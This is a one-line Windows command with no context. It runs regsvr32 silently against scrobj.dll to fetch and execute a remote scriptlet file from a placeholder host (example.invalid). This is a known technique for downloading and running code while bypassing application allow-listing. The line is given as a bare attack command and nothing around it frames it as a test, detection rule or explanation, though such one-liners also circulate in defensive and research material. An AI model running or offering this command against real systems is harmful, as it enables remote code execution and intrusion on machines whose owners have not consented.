regsvr32 /s /n /u /i:http://example.invalid/a.sct scrobj.dll
